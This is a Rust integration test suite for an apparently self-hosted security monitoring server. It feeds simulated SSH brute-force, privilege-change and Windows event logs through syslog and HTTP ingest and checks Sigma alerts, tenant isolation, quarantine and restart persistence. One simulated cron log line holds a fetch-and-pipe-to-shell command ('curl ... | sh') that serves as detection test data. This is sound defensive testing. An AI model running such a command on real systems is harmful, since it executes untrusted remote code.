//! Live security monitoring end to end, on the real binary: syslog over
//! TCP and UDP, tenant routing (listener, source address, quarantine),
//! decoding, Sigma and Vigil's own rules, alerts, rule upload and
//! switches, correlation state across a restart.

mod common;

use common::Server;
use serde_json::{json, Value};
use std::io::Write;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::time::Duration;

const CONFIG: &str = r#"
[[tenants]]
name = "acme"

[[tenants]]
name = "globex"
sources = ["127.0.0.2/32"]

[[inputs.syslog]]
protocol = "tcp"
listen = "127.0.0.1:0"
tenant = "acme"

[[inputs.syslog]]
protocol = "udp"
listen = "127.0.0.1:0"

[[inputs.syslog]]
protocol = "tcp"
listen = "127.0.0.1:0"

[detection]
new_source_learning_hours = 0
"#;

fn start(data: &Path) -> Server {
    start_with(data, "")
}

/// Starts with [`CONFIG`] plus `extra` keys for the `[detection]` table.
fn start_with(data: &Path, extra: &str) -> Server {
    let config = data.join("vigil.toml");
    std::fs::create_dir_all(data).expect("data dir");
    std::fs::write(&config, format!("{CONFIG}{extra}\n")).expect("write config");
    let server = Server::start_with_config(data, config.to_str().expect("utf-8 path"));
    assert_eq!(server.syslog.len(), 3, "three listeners: {}", server.log());
    server
}

/// Sends RFC 6587 octet-counted frames over one TCP connection.
fn send_tcp(to: SocketAddr, lines: &[String]) {
    let mut stream = TcpStream::connect(to).expect("connect syslog tcp");
    for line in lines {
        write!(stream, "{} {}", line.len(), line).expect("send frame");
    }
    stream.flush().expect("flush");
}

/// Sends datagrams from a chosen loopback address.
fn send_udp(from: &str, to: SocketAddr, lines: &[String]) {
    let socket = UdpSocket::bind((from, 0)).expect("bind udp sender");
    for line in lines {
        socket.send_to(line.as_bytes(), to).expect("send datagram");
    }
}

fn sshd(host: &str, text: &str) -> String {
    format!("<38>Nov 21 10:00:00 {host} sshd[4242]: {text}")
}

fn failures(host: &str, ip: &str, n: usize) -> Vec<String> {
    (0..n)
        .map(|i| {
            sshd(
                host,
                &format!("Failed password for root from {ip} port {} ssh2", 40000 + i),
            )
        })
        .collect()
}

fn rule_ids(answer: &Value) -> Vec<String> {
    answer["alerts"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|x| x["rule_title"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn has_title(answer: &Value, title: &str) -> bool {
    rule_ids(answer).iter().any(|t| t == title)
}

#[test]
fn syslog_is_routed_decoded_matched_and_alerted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = start(dir.path());
    let acme = server.token("acme", "read");
    let globex = server.token("globex", "read");

    // Brute force then success from one source, over TCP to acme's port.
    let mut lines = failures("web01", "203.0.113.5", 6);
    lines.push(sshd(
        "web01",
        "Accepted password for root from 203.0.113.5 port 41000 ssh2",
    ));
    send_tcp(server.syslog[0], &lines);
    let answer = server.alerts_until(&acme, &[("source_ip", "203.0.113.5")], |a| {
        has_title(a, "SSH brute force followed by a successful login")
    });
    assert!(
        has_title(&answer, "SSH brute force from one source"),
        "{answer}"
    );
    assert!(
        has_title(&answer, "SSH brute force followed by a successful login"),
        "{answer}"
    );
    let brute = answer["alerts"]
        .as_array()
        .and_then(|a| {
            a.iter()
                .find(|x| x["rule_title"] == "SSH brute force from one source")
        })
        .cloned()
        .expect("brute force alert");
    assert_eq!(brute["severity"], "high");
    assert_eq!(brute["team"], "soc");
    assert_eq!(brute["entities"]["source_ip"], "203.0.113.5");
    assert_eq!(brute["tenant"], "acme");
    assert!(
        !has_title(&answer, "SSH login failed"),
        "the evidence rule stays quiet: {answer}"
    );

    // The events are stored decoded and searchable by their fields.
    let found = server.search_until(&acme, "source.ip:203.0.113.5 AND event.outcome:failure", 6);
    assert_eq!(found["total"], 6, "{found}");
    let event = &found["events"][0]["event"];
    assert_eq!(event["user.name"], "root", "{event}");
    assert_eq!(event["host.name"], "web01", "{event}");
    assert!(event["event.original"]
        .as_str()
        .is_some_and(|o| o.contains("Failed password")));
    assert_eq!(
        server.search(&acme, "event.original:*")["total"],
        0,
        "the original line is stored, not indexed"
    );

    // UDP from 127.0.0.2 belongs to globex by its source block.
    send_udp(
        "127.0.0.2",
        server.syslog[1],
        &["<86>Nov 21 10:01:00 db01 usermod[77]: add 'mallory' to group 'sudo'".to_string()],
    );
    let answer = server.alerts_until(&globex, &[], |a| a["total"].as_u64() > Some(0));
    assert!(
        has_title(&answer, "User added to a Linux administrators group"),
        "{answer}"
    );
    assert_eq!(answer["alerts"][0]["entities"]["host"], "db01");
    let acme_alerts = server.alerts(&acme, &[("host", "db01")]);
    assert_eq!(acme_alerts["total"], 0, "globex's alert is not acme's");

    // A sender no tenant claims is quarantined, for the MSP admin only.
    send_udp(
        "127.0.0.3",
        server.syslog[1],
        &["<13>Nov 21 10:02:00 stray app: who am I".to_string()],
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let quarantined = loop {
        let r: Value = server
            .get("/api/v1/quarantine", &server.admin)
            .query(&[("q", "stray")])
            .send()
            .expect("quarantine")
            .json()
            .expect("json");
        if r["total"].as_u64() == Some(1) || std::time::Instant::now() > deadline {
            break r;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(quarantined["total"], 1, "{quarantined}");
    let reason = quarantined["events"][0]["event"]["quarantine.reason"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(reason.contains("127.0.0.3"), "{reason}");
    let refused = server
        .get("/api/v1/quarantine", &acme)
        .send()
        .expect("quarantine as acme");
    assert_eq!(refused.status(), 403);
    let metrics = server
        .request("GET", "/metrics")
        .send()
        .expect("metrics")
        .text()
        .expect("text");
    assert!(
        metrics.contains("vigil_syslog_quarantined_total 1"),
        "{metrics}"
    );
}

#[test]
fn http_ingest_windows_events_pass_the_rules() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = start(dir.path());
    let ingest = server.token("acme", "ingest");
    let read = server.token("acme", "read");
    // The shape Winlogbeat sends.
    let event = json!({
        "@timestamp": "2026-11-21T10:00:00Z",
        "winlog": {
            "event_id": 4732, "channel": "Security", "computer_name": "dc01.acme.local",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "event_data": {"TargetSid": "S-1-5-32-544", "TargetUserName": "Administrators",
                           "MemberSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "eve"}
        }
    });
    let r = server.ingest(&ingest, &format!("{event}\n"));
    assert_eq!(r.status(), 200);
    let answer = server.alerts_until(&read, &[], |a| a["total"].as_u64() > Some(0));
    assert!(
        has_title(&answer, "Member added to the Windows Administrators group"),
        "{answer}"
    );
    assert_eq!(answer["alerts"][0]["entities"]["host"], "dc01.acme.local");
}

#[test]
fn uploaded_rules_apply_at_once_and_can_be_switched_off() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = start(dir.path());
    let admin = server.token("acme", "admin");
    let read = server.token("acme", "read");
    let rule = "title: Mallory logs in\nid: acme-mallory\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    user.name: mallory\n  condition: sel\nlevel: high\n";
    let r = server
        .post("/api/v1/rules", &admin)
        .body(rule)
        .send()
        .expect("upload");
    assert_eq!(r.status(), 201, "{}", r.text().unwrap_or_default());
    let broken = server
        .post("/api/v1/rules", &admin)
        .body("title: broken\nlogsource:\n  product: linux\ndetection:\n  sel:\n    a|nosuchmodifier: x\n  condition: sel\n")
        .send()
        .expect("upload broken");
    assert_eq!(broken.status(), 400);
    let reason = broken.text().unwrap_or_default();
    assert!(
        reason.contains("nosuchmodifier"),
        "the reason names it: {reason}"
    );
    let listed: Value = server
        .get("/api/v1/rules", &read)
        .query(&[("q", "mallory")])
        .send()
        .expect("list")
        .json()
        .expect("json");
    assert_eq!(listed["rules"][0]["origin"], "uploaded", "{listed}");

    let line = sshd(
        "web02",
        "Failed password for mallory from 192.0.2.44 port 5000 ssh2",
    );
    send_tcp(server.syslog[0], std::slice::from_ref(&line));
    let answer = server.alerts_until(&read, &[("rule", "acme-mallory")], |a| {
        a["total"].as_u64() == Some(1)
    });
    assert_eq!(answer["alerts"][0]["count"], 1, "{answer}");

    let off = server
        .request("PATCH", "/api/v1/rules/acme-mallory")
        .bearer_auth(&admin)
        .json(&json!({"enabled": false}))
        .send()
        .expect("switch off");
    assert_eq!(off.status(), 200);
    send_tcp(
        server.syslog[0],
        &[line, sshd("web02", "marker-after-switch")],
    );
    server.search_until(&read, "marker-after-switch", 1);
    let answer = server.alerts(&read, &[("rule", "acme-mallory")]);
    assert_eq!(answer["alerts"][0]["count"], 1, "switched off: {answer}");

    // Another tenant never sees acme's rule.
    server.create_tenant("other");
    let other = server.token("other", "read");
    let theirs: Value = server
        .get("/api/v1/rules", &other)
        .query(&[("q", "mallory")])
        .send()
        .expect("list")
        .json()
        .expect("json");
    assert_eq!(theirs["total"], 0, "{theirs}");
}

#[test]
fn correlation_state_survives_a_restart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut server = start(dir.path());
    let read = server.token("acme", "read");
    send_tcp(server.syslog[0], &failures("web03", "198.51.100.9", 3));
    server.search_until(&read, "source.ip:198.51.100.9", 3);
    server.stop();
    let server = start(dir.path());
    let read = server.token("acme", "read");
    send_tcp(server.syslog[0], &failures("web03", "198.51.100.9", 2));
    let answer = server.alerts_until(&read, &[("source_ip", "198.51.100.9")], |a| {
        a["total"].as_u64() > Some(0)
    });
    assert!(
        has_title(&answer, "SSH brute force from one source"),
        "3 before and 2 after the restart make 5: {answer}"
    );
}

#[test]
fn a_rule_dropped_into_a_rule_folder_applies_without_a_restart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).expect("rules dir");
    let extra = format!(
        "rule_paths = [{:?}]\nreload_interval_secs = 1",
        rules.to_str().expect("utf-8 path")
    );
    let server = start_with(&dir.path().join("data"), &extra);
    let read = server.token("acme", "read");
    std::fs::write(
        rules.join("cron.yml"),
        "title: Cron runs a downloader\nid: folder-cron\nlogsource:\n  product: linux\n  service: cron\ndetection:\n  sel:\n    process.command_line|contains: curl\n  condition: sel\nlevel: medium\n",
    )
    .expect("write rule");
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    // The shared rules load at start, then again once the folder changed.
    let reloaded = || {
        server
            .log()
            .matches("shared detection rules loaded")
            .count()
            >= 2
    };
    while !reloaded() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    send_tcp(
        server.syslog[0],
        &[
            "<78>Nov 21 10:05:00 app01 CRON[999]: (root) CMD (curl -s http://198.51.100.1/x | sh)"
                .to_string(),
        ],
    );
    let answer = server.alerts_until(&read, &[("rule", "folder-cron")], |a| {
        a["total"].as_u64() == Some(1)
    });
    assert_eq!(answer["total"], 1, "{answer}\n{}", server.log());
    assert_eq!(answer["alerts"][0]["severity"], "medium");
}

/// An EVTX file sent to the API is read, mapped like `vigil hunt` maps it,
/// and matched: the SigmaHQ rule whose regression sample it is fires.
#[test]
fn an_evtx_import_passes_the_rules() {
    let Some(corpora) = std::env::var_os("VIGIL_CORPORA") else {
        eprintln!("SKIPPED an_evtx_import_passes_the_rules: VIGIL_CORPORA is not set");
        return;
    };
    let sigma = Path::new(&corpora).join("sigma");
    let rule =
        sigma.join("rules/windows/process_creation/proc_creation_win_amsi_registry_tampering.yml");
    let sample = sigma.join("regression_data/rules/windows/process_creation/proc_creation_win_amsi_registry_tampering/7dbbcac2-57a0-45ac-b306-ff30a8bd2981.evtx");
    let dir = tempfile::tempdir().expect("tempdir");
    let extra = format!("rule_paths = [{:?}]", rule.to_str().expect("utf-8 path"));
    let server = start_with(dir.path(), &extra);
    let ingest = server.token("acme", "ingest");
    let read = server.token("acme", "read");
    let r = server
        .post("/api/v1/ingest/evtx", &ingest)
        .body(std::fs::read(&sample).expect("read sample"))
        .send()
        .expect("import");
    assert_eq!(r.status(), 200);
    let answer: Value = r.json().expect("json");
    assert!(answer["accepted"].as_u64() > Some(0), "{answer}");
    let alerts = server.alerts_until(
        &read,
        &[("rule", "7dbbcac2-57a0-45ac-b306-ff30a8bd2981")],
        |a| a["total"].as_u64() == Some(1),
    );
    assert_eq!(alerts["total"], 1, "{alerts}");
    assert_eq!(
        alerts["alerts"][0]["rule_title"],
        "Windows AMSI Related Registry Tampering Via CommandLine"
    );
    let bad = server
        .post("/api/v1/ingest/evtx", &ingest)
        .body("not an event log")
        .send()
        .expect("import garbage");
    assert_eq!(bad.status(), 400);
}
